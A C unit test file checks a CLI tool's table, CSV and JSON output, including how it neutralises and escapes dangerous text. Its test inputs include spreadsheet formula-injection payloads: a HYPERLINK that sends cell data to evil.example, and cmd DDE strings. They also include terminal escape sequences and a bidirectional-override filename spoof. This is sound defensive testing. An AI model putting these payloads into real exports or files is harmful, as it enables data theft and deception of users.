/* test_cli_out.c: src/cli/cli_out.c: results, and their table, CSV and JSON forms, byte for byte. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <jansson.h>

#include "cli/cli_out.h"

/* Render r in fmt into a string the caller frees. */
static char *render(const struct cli_result *r, enum cli_format fmt)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	assert_non_null(f);
	assert_int_equal(cli_render(f, r, fmt), 0);
	fclose(f);
	return buf;
}

static void set_text(struct cli_cell *c, const char *s)
{
	assert_int_equal(cli_cell_set_text(c, s, strlen(s)), 0);
}

static void test_format_parse(void **state)
{
	(void)state;
	static const struct {
		const char *in;
		int rc;
		enum cli_format fmt;
	} cases[] = {
	        {"table", 0, CLI_FMT_TABLE}, {"csv", 0, CLI_FMT_CSV},   {"json", 0, CLI_FMT_JSON},
	        {"JSON", -1, CLI_FMT_TABLE}, {"", -1, CLI_FMT_TABLE},   {"tsv", -1, CLI_FMT_TABLE},
	        {"csv ", -1, CLI_FMT_TABLE}, {NULL, -1, CLI_FMT_TABLE},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		enum cli_format f = CLI_FMT_TABLE;
		assert_int_equal(cli_format_parse(cases[i].in, &f), cases[i].rc);
		assert_int_equal(f, cases[i].fmt);
	}
}

static void test_format_real(void **state)
{
	(void)state;
	static const struct {
		double d;
		const char *want;
	} cases[] = {
	        {1234.5, "1234.5"},  {0.1, "0.1"},    {25.0, "25.0"},
	        {-2.0, "-2.0"},      {1e20, "1e+20"}, {30.75, "30.75"},
	        {-0.5, "-0.5"},      {0.0, "0.0"},    {1.0 / 3, "0.3333333333333333"},
	        {2.5e-7, "2.5e-07"},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char buf[CLI_REAL_LEN];
		cli_format_real(cases[i].d, buf);
		assert_string_equal(buf, cases[i].want);
		assert_true(strtod(buf, NULL) == cases[i].d);
	}
	char buf[CLI_REAL_LEN];
	cli_format_real(NAN, buf);
	assert_string_equal(buf, "null");
	cli_format_real(-INFINITY, buf);
	assert_string_equal(buf, "null");
}

static void test_utf8(void **state)
{
	(void)state;
	static const struct {
		const char *s;
		size_t n, len;
		uint32_t cp;
	} cases[] = {
	        {"A", 1, 1, 0x41},
	        {"\xc3\xa9", 2, 2, 0xe9},
	        {"\xe2\x82\xac", 3, 3, 0x20ac},
	        {"\xf0\x9f\x98\x80", 4, 4, 0x1f600},
	        {"\xc0\x80", 2, 0, 0},         /* overlong NUL */
	        {"\xe0\x80\xaf", 3, 0, 0},     /* overlong '/' */
	        {"\xed\xa0\x80", 3, 0, 0},     /* surrogate */
	        {"\xf4\x90\x80\x80", 4, 0, 0}, /* beyond U+10FFFF */
	        {"\xe2\x82", 2, 0, 0},         /* truncated */
	        {"\x80", 1, 0, 0},             /* lone continuation */
	        {"\xff", 1, 0, 0},             /* never valid */
	        {"\xc3\x28", 2, 0, 0},         /* bad continuation */
	        {"", 0, 0, 0},                 /* nothing */
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		uint32_t cp = 0;
		size_t len = cli_utf8_char((const unsigned char *)cases[i].s, cases[i].n, &cp);
		assert_int_equal(len, cases[i].len);
		if (len > 0)
			assert_int_equal(cp, cases[i].cp);
	}
}

/* A section of four typed columns and three rows with awkward text. */
static struct cli_section *sample(struct cli_result *r)
{
	static const char *const cols[] = {"name", "n", "ratio", "note"};
	char err[128];
	struct cli_section *s = cli_result_add(r, "sample", NULL, 4, cols, err, sizeof(err));
	assert_non_null(s);
	struct cli_cell *row = cli_section_add_row(s, err, sizeof(err));
	assert_non_null(row);
	set_text(&row[0], "ana");
	cli_cell_set_int(&row[1], 5);
	cli_cell_set_real(&row[2], 1.5);
	/* row[3] stays NULL */
	row = cli_section_add_row(s, err, sizeof(err));
	assert_non_null(row);
	set_text(&row[0], "b\xc3\xa9\x1b[31m"); /* é and an escape sequence */
	cli_cell_set_int(&row[1], -12);
	set_text(&row[3], "say \"hi\", then\r\nleave");
	row = cli_section_add_row(s, err, sizeof(err));
	assert_non_null(row);
	set_text(&row[0], "\xff\x01");
	cli_cell_set_int(&row[1], INT64_MAX);
	cli_cell_set_real(&row[2], 0.1);
	set_text(&row[3], "");
	return s;
}

static void test_table(void **state)
{
	(void)state;
	struct cli_result r = {0};
	sample(&r);
	char *out = render(&r, CLI_FMT_TABLE);
	assert_string_equal(out, "name                          n  ratio  note\n"
	                         "ana                           5    1.5  -\n"
	                         "b\xc3\xa9\\x1b[31m                  -12      -  "
	                         "say \"hi\", then\\x0d\\x0aleave\n"
	                         "\\xff\\x01    9223372036854775807    0.1\n");
	free(out);
	cli_result_free(&r);
	assert_int_equal(r.n, 0);
}

static void test_table_title_footer_attach(void **state)
{
	(void)state;
	static const char *const cols[] = {"ch", "users", "users_change", "days"};
	struct cli_result r = {0};
	char err[128];
	struct cli_section *s =
	        cli_result_add(&r, "channels", "Channels, 7 days", 4, cols, err, sizeof(err));
	assert_non_null(s);
	s->right |= 1u << 2;
	s->attach |= 1u << 2;
	static const struct {
		const char *ch;
		int64_t users;
		const char *chg;
		int64_t days;
	} rows[] = {{"EMAIL", 1650, "+10.0%", 3}, {"SMS", 7, "new", 12}};
	for (size_t i = 0; i < 2; i++) {
		struct cli_cell *row = cli_section_add_row(s, err, sizeof(err));
		assert_non_null(row);
		set_text(&row[0], rows[i].ch);
		cli_cell_set_int(&row[1], rows[i].users);
		set_text(&row[2], rows[i].chg);
		cli_cell_set_int(&row[3], rows[i].days);
	}
	assert_int_equal(cli_section_set_footer(s, "2 channels"), 0);
	char *out = render(&r, CLI_FMT_TABLE);
	assert_string_equal(out, "Channels, 7 days\n"
	                         "ch     users         days\n"
	                         "EMAIL   1650 +10.0%     3\n"
	                         "SMS        7    new    12\n"
	                         "2 channels\n");
	free(out);
	/* attach and right change only the table form */
	out = render(&r, CLI_FMT_CSV);
	assert_string_equal(out, "ch,users,users_change,days\r\n"
	                         "EMAIL,1650,+10.0%,3\r\n"
	                         "SMS,7,new,12\r\n");
	free(out);
	cli_result_free(&r);
}

static void test_csv(void **state)
{
	(void)state;
	struct cli_result r = {0};
	sample(&r);
	char *out = render(&r, CLI_FMT_CSV);
	assert_string_equal(out,
	                    "name,n,ratio,note\r\n"
	                    "ana,5,1.5,\r\n"
	                    "b\xc3\xa9\\x1b[31m,-12,,\"say \"\"hi\"\", then\\x0d\\x0aleave\"\r\n"
	                    "\\xff\\x01,9223372036854775807,0.1,\r\n");
	free(out);
	cli_result_free(&r);
}

static void test_json(void **state)
{
	(void)state;
	struct cli_result r = {0};
	sample(&r);
	char *out = render(&r, CLI_FMT_JSON);
	assert_string_equal(
	        out, "[\n"
	             "  {\"name\":\"ana\",\"n\":5,\"ratio\":1.5,\"note\":null},\n"
	             "  {\"name\":\"b\xc3\xa9\\u001b[31m\",\"n\":-12,\"ratio\":null,"
	             "\"note\":\"say \\\"hi\\\", then\\r\\nleave\"},\n"
	             "  {\"name\":\"\\ufffd\\u0001\",\"n\":9223372036854775807,\"ratio\":0.1,"
	             "\"note\":\"\"}\n"
	             "]\n");
	free(out);
	cli_result_free(&r);
}

static void test_json_specials(void **state)
{
	(void)state;
	static const char *const cols[] = {"k\"ey", "v"};
	struct cli_result r = {0};
	char err[128];
	struct cli_section *s = cli_result_add(&r, "x", NULL, 2, cols, err, sizeof(err));
	assert_non_null(s);
	struct cli_cell *row = cli_section_add_row(s, err, sizeof(err));
	set_text(&row[0], "back\\slash\ttab\b\f/");
	cli_cell_set_real(&row[1], NAN);
	char *out = render(&r, CLI_FMT_JSON);
	assert_string_equal(out,
	                    "[\n  {\"k\\\"ey\":\"back\\\\slash\\ttab\\b\\f/\",\"v\":null}\n]\n");
	free(out);
	out = render(&r, CLI_FMT_CSV);
	assert_string_equal(out, "\"k\"\"ey\",v\r\nback\\slash\\x09tab\\x08\\x0c/,\r\n");
	free(out);
	cli_result_free(&r);
}

/* One text column "c" of one row holding s[0..len-1], rendered in fmt. */
static char *render_one(const char *s, size_t len, enum cli_format fmt)
{
	static const char *const cols[] = {"c"};
	struct cli_result r = {0};
	char err[128];
	struct cli_section *sec = cli_result_add(&r, "x", NULL, 1, cols, err, sizeof(err));
	assert_non_null(sec);
	struct cli_cell *row = cli_section_add_row(sec, err, sizeof(err));
	assert_non_null(row);
	assert_int_equal(cli_cell_set_text(&row[0], s, len), 0);
	char *out = render(&r, fmt);
	cli_result_free(&r);
	return out;
}

/* Strings with their length, so that a NUL can be part of one. */
#define S(lit) lit, sizeof(lit) - 1

/*
 * Issue 12, finding 5: text a spreadsheet would run as a formula gets a
 * leading "'" and quotes; numbers, also negative ones and the report's
 * changes, stay numbers; control characters are escaped, never written.
 */
static void test_csv_neutralised(void **state)
{
	(void)state;
	static const struct {
		const char *in;
		size_t len;
		const char *field;
	} cases[] = {
	        {S("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
	         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""},
	        {S("@SUM(1+1)*cmd|' /C calc'!A0"), "\"'@SUM(1+1)*cmd|' /C calc'!A0\""},
	        {S("+ADMIN"), "\"'+ADMIN\""},
	        {S("-2+3+cmd|' /C calc'!A0"), "\"'-2+3+cmd|' /C calc'!A0\""},
	        {S("=1"), "\"'=1\""},
	        {S("\t=1"), "\"'\\x09=1\""},
	        {S("\r=1"), "\"'\\x0d=1\""},
	        {S("+"), "\"'+\""},
	        {S("-1e5x"), "\"'-1e5x\""},
	        {S("--1"), "\"'--1\""},
	        /* numbers as text: nothing to compute */
	        {S("-"), "-"},
	        {S("-3"), "-3"},
	        {S("+12.5%"), "+12.5%"},
	        {S("-100.0%"), "-100.0%"},
	        {S("-.5"), "-.5"},
	        {S("-1.5e+20"), "-1.5e+20"},
	        /* only the first character counts */
	        {S("a=b"), "a=b"},
	        {S(" =1"), " =1"},
	        {S("ana@acme.example"), "ana@acme.example"},
	        /* quoting: , ; and " */
	        {S("x,y"), "\"x,y\""},
	        {S("x;=1"), "\"x;=1\""},
	        {S("say \"hi\""), "\"say \"\"hi\"\"\""},
	        /* control characters and invalid UTF-8 escaped; newlines too */
	        {S("a\x1b[2Jb"), "a\\x1b[2Jb"},
	        {S("back\bspace"), "back\\x08space"},
	        {S("two\r\nlines"), "two\\x0d\\x0alines"},
	        {S("nul\0x"), "nul\\x00x"},
	        {S("c1\xc2\x9b[2J del\x7f"), "c1\\x9b[2J del\\x7f"},
	        {S("\xff\xfe"), "\\xff\\xfe"},
	        /* invisible characters are data in CSV */
	        {S("ab\xe2\x80\xae"
	           "cd"),
	         "ab\xe2\x80\xae"
	         "cd"},
	        {S(""), ""},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *out = render_one(cases[i].in, cases[i].len, CLI_FMT_CSV);
		char want[256];
		snprintf(want, sizeof(want), "c\r\n%s\r\n", cases[i].field);
		if (strcmp(out, want) != 0)
			fail_msg("case %zu: got \"%s\", want \"%s\"", i, out, want);
		free(out);
	}

	/* integer and real cells stay numbers, negative ones included */
	static const char *const cols[] = {"i", "d", "t"};
	struct cli_result r = {0};
	char err[128];
	struct cli_section *sec = cli_result_add(&r, "x", NULL, 3, cols, err, sizeof(err));
	assert_non_null(sec);
	struct cli_cell *row = cli_section_add_row(sec, err, sizeof(err));
	assert_non_null(row);
	cli_cell_set_int(&row[0], INT64_MIN);
	cli_cell_set_real(&row[1], -0.5);
	set_text(&row[2], "-0.5");
	char *out = render(&r, CLI_FMT_CSV);
	assert_string_equal(out, "i,d,t\r\n-9223372036854775808,-0.5,-0.5\r\n");
	free(out);
	cli_result_free(&r);
}

/*
 * Issue 12, finding 7: in the table, control characters and invalid UTF-8
 * show as "\xHH", invisible and bidirectional characters as "<U+XXXX>",
 * and the columns stay aligned (an escape takes as many columns as it has
 * bytes; any other character one).
 */
static void test_table_escapes(void **state)
{
	(void)state;
	static const struct {
		const char *in;
		size_t len;
		const char *shown;
	} cases[] = {
	        {S("plain"), "plain"},
	        {S("caf\xc3\xa9"), "caf\xc3\xa9"},
	        {S("a\x1b[2Jb"), "a\\x1b[2Jb"},
	        {S("x\by"), "x\\x08y"},
	        {S("tab\there"), "tab\\x09here"},
	        {S("c1\xc2\x9b"), "c1\\x9b"},
	        {S("\xff"), "\\xff"},
	        {S("admin\xe2\x80\xae"
	           "gnp.exe"),
	         "admin<U+202E>gnp.exe"},
	        {S("\xe2\x81\xa6"
	           "r\xe2\x81\xa9"),
	         "<U+2066>r<U+2069>"},
	        {S("a\xe2\x80\x8b"
	           "b\xe2\x80\x8d"
	           "c"),
	         "a<U+200B>b<U+200D>c"},
	        {S("\xef\xbb\xbf"
	           "bom\xe2\x81\xa0"),
	         "<U+FEFF>bom<U+2060>"},
	        {S("\xe2\x80\x8e\xe2\x80\x8f\xd8\x9c"), "<U+200E><U+200F><U+061C>"},
	};
	size_t n = sizeof(cases) / sizeof(cases[0]);
	static const char *const cols[] = {"text", "n"};
	struct cli_result r = {0};
	char err[128];
	struct cli_section *sec = cli_result_add(&r, "x", NULL, 2, cols, err, sizeof(err));
	assert_non_null(sec);
	size_t width = 4; /* "text" */
	for (size_t i = 0; i < n; i++) {
		struct cli_cell *row = cli_section_add_row(sec, err, sizeof(err));
		assert_non_null(row);
		assert_int_equal(cli_cell_set_text(&row[0], cases[i].in, cases[i].len), 0);
		cli_cell_set_int(&row[1], (int64_t)i);
		/* the columns of what is shown: one per UTF-8 character */
		size_t w = 0;
		for (const char *p = cases[i].shown; *p; p++)
			w += ((unsigned char)*p & 0xc0) != 0x80;
		if (w > width)
			width = w;
	}
	assert_int_equal(width, 24); /* <U+200E><U+200F><U+061C> */
	char *want = malloc(4096), *p = want;
	assert_non_null(want);
	p += sprintf(p, "%-*s   n\n", (int)width, "text");
	for (size_t i = 0; i < n; i++) {
		size_t w = 0;
		for (const char *q = cases[i].shown; *q; q++)
			w += ((unsigned char)*q & 0xc0) != 0x80;
		p += sprintf(p, "%s%*s%2zu\n", cases[i].shown, (int)(width - w + 2), "", i);
	}
	char *out = render(&r, CLI_FMT_TABLE);
	assert_string_equal(out, want);
	free(out);
	free(want);
	cli_result_free(&r);

	/* titles and footers too */
	struct cli_section *t = cli_result_add(&r, "x", "ti\x1btle\xe2\x80\xae", 1,
	                                       (const char *const[]){"c"}, err, sizeof(err));
	assert_non_null(t);
	assert_int_equal(cli_section_set_footer(t, "foot\x07"), 0);
	out = render(&r, CLI_FMT_TABLE);
	assert_string_equal(out, "ti\\x1btle<U+202E>\nc\nfoot\\x07\n");
	free(out);
	cli_result_free(&r);
}

/*
 * JSON: DEL, C1, invisible and bidirectional characters \u-escaped as well
 * as the C0 controls (a terminal shows the escape; a JSON reader gets the
 * same text back).
 */
static void test_json_escapes(void **state)
{
	(void)state;
	static const struct {
		const char *in;
		size_t len;
		const char *string;
	} cases[] = {
	        {S("a\x1b[2Jb\x7f"), "\"a\\u001b[2Jb\\u007f\""},
	        {S("c1\xc2\x9b[2J\xc2\x85"), "\"c1\\u009b[2J\\u0085\""},
	        {S("admin\xe2\x80\xae"
	           "gnp.exe"),
	         "\"admin\\u202egnp.exe\""},
	        {S("z\xe2\x80\x8bw\xef\xbb\xbf\xe2\x80\xa8"), "\"z\\u200bw\\ufeff\\u2028\""},
	        {S("tag\xf3\xa0\x80\x81"), "\"tag\\udb40\\udc01\""},
	        {S("caf\xc3\xa9 \xf0\x9f\x98\x80"), "\"caf\xc3\xa9 \xf0\x9f\x98\x80\""},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *out = render_one(cases[i].in, cases[i].len, CLI_FMT_JSON);
		char want[256];
		snprintf(want, sizeof(want), "[\n  {\"c\":%s}\n]\n", cases[i].string);
		if (strcmp(out, want) != 0)
			fail_msg("case %zu: got \"%s\", want \"%s\"", i, out, want);
		/* and it reads back as the text itself */
		json_error_t je;
		json_t *doc = json_loads(out, 0, &je);
		assert_non_null(doc);
		json_t *v = json_object_get(json_array_get(doc, 0), "c");
		assert_int_equal(json_string_length(v), cases[i].len);
		assert_memory_equal(json_string_value(v), cases[i].in, cases[i].len);
		json_decref(doc);
		free(out);
	}
}

static void test_two_sections(void **state)
{
	(void)state;
	static const char *const a_cols[] = {"workspace", "seats"};
	static const char *const b_cols[] = {"workspace", "email"};
	struct cli_result r = {0};
	char err[128];
	struct cli_section *a = cli_result_add(&r, "seats", "Seats", 2, a_cols, err, sizeof(err));
	struct cli_section *b =
	        cli_result_add(&r, "inactive", "Inactive", 2, b_cols, err, sizeof(err));
	assert_non_null(a);
	assert_non_null(b);
	struct cli_cell *row = cli_section_add_row(a, err, sizeof(err));
	set_text(&row[0], "acme");
	cli_cell_set_int(&row[1], 4);
	row = cli_section_add_row(b, err, sizeof(err));
	set_text(&row[0], "acme");
	set_text(&row[1], "dee@x");

	char *out = render(&r, CLI_FMT_TABLE);
	assert_string_equal(out, "Seats\nworkspace  seats\nacme           4\n\n"
	                         "Inactive\nworkspace  email\nacme       dee@x\n");
	free(out);
	out = render(&r, CLI_FMT_CSV);
	assert_string_equal(out, "section,workspace,seats,email\r\n"
	                         "seats,acme,4,\r\n"
	                         "inactive,acme,,dee@x\r\n");
	free(out);
	out = render(&r, CLI_FMT_JSON);
	assert_string_equal(out, "[\n"
	                         "  {\"section\":\"seats\",\"workspace\":\"acme\",\"seats\":4},\n"
	                         "  {\"section\":\"inactive\",\"workspace\":\"acme\","
	                         "\"email\":\"dee@x\"}\n"
	                         "]\n");
	free(out);
	cli_result_free(&r);
}

static void test_empty(void **state)
{
	(void)state;
	static const char *const cols[] = {"id", "status"};
	struct cli_result r = {0};
	char err[128];
	assert_non_null(cli_result_add(&r, "pulls", NULL, 2, cols, err, sizeof(err)));
	static const struct {
		enum cli_format fmt;
		const char *want;
	} cases[] = {{CLI_FMT_TABLE, "id  status\n"},
	             {CLI_FMT_CSV, "id,status\r\n"},
	             {CLI_FMT_JSON, "[]\n"}};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *out = render(&r, cases[i].fmt);
		assert_string_equal(out, cases[i].want);
		free(out);
	}
	cli_result_free(&r);
}

static void test_bounds(void **state)
{
	(void)state;
	static const char *cols[CLI_MAX_COLS + 1];
	for (size_t i = 0; i <= CLI_MAX_COLS; i++)
		cols[i] = "c";
	struct cli_result r = {0};
	char err[128] = "";
	assert_null(cli_result_add(&r, "x", NULL, 0, cols, err, sizeof(err)));
	assert_string_equal(err, "a result section needs 1 to 32 columns");
	assert_null(cli_result_add(&r, "x", NULL, CLI_MAX_COLS + 1, cols, err, sizeof(err)));
	assert_non_null(cli_result_add(&r, "x", NULL, CLI_MAX_COLS, cols, err, sizeof(err)));
	for (size_t i = 1; i < CLI_MAX_SECTIONS; i++)
		assert_non_null(cli_result_add(&r, "x", NULL, 1, cols, err, sizeof(err)));
	assert_null(cli_result_add(&r, "x", NULL, 1, cols, err, sizeof(err)));
	assert_string_equal(err, "too many result sections");
	assert_int_equal(r.n, CLI_MAX_SECTIONS);

	/* text cells: at most CLI_MAX_TEXT bytes */
	char *big = malloc(CLI_MAX_TEXT + 1);
	assert_non_null(big);
	memset(big, 'x', CLI_MAX_TEXT + 1);
	struct cli_cell *row = cli_section_add_row(r.sec[1], err, sizeof(err));
	assert_non_null(row);
	assert_int_equal(cli_cell_set_text(&row[0], big, CLI_MAX_TEXT + 1), -1);
	assert_int_equal(row[0].kind, CLI_NULL);
	assert_int_equal(cli_cell_set_text(&row[0], big, CLI_MAX_TEXT), 0);
	assert_int_equal(row[0].len, CLI_MAX_TEXT);
	free(big);

	/* rows: at most CLI_MAX_ROWS per section */
	struct cli_section *s = r.sec[2];
	for (size_t i = 0; i < CLI_MAX_ROWS; i++)
		assert_non_null(cli_section_add_row(s, err, sizeof(err)));
	assert_null(cli_section_add_row(s, err, sizeof(err)));
	assert_string_equal(err, "more than 1000000 rows in one result; narrow the query");
	assert_int_equal(s->nrows, CLI_MAX_ROWS);
	cli_result_free(&r);
}

static void test_write_error(void **state)
{
	(void)state;
	struct cli_result r = {0};
	sample(&r);
	FILE *f = fopen("/dev/full", "w");
	if (f == NULL) {
		cli_result_free(&r);
		skip();
	}
	assert_int_equal(cli_render(f, &r, CLI_FMT_JSON), -1);
	fclose(f);
	cli_result_free(&r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_format_parse),
	        cmocka_unit_test(test_format_real),
	        cmocka_unit_test(test_utf8),
	        cmocka_unit_test(test_table),
	        cmocka_unit_test(test_table_title_footer_attach),
	        cmocka_unit_test(test_csv),
	        cmocka_unit_test(test_json),
	        cmocka_unit_test(test_json_specials),
	        cmocka_unit_test(test_csv_neutralised),
	        cmocka_unit_test(test_table_escapes),
	        cmocka_unit_test(test_json_escapes),
	        cmocka_unit_test(test_two_sections),
	        cmocka_unit_test(test_empty),
	        cmocka_unit_test(test_bounds),
	        cmocka_unit_test(test_write_error),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
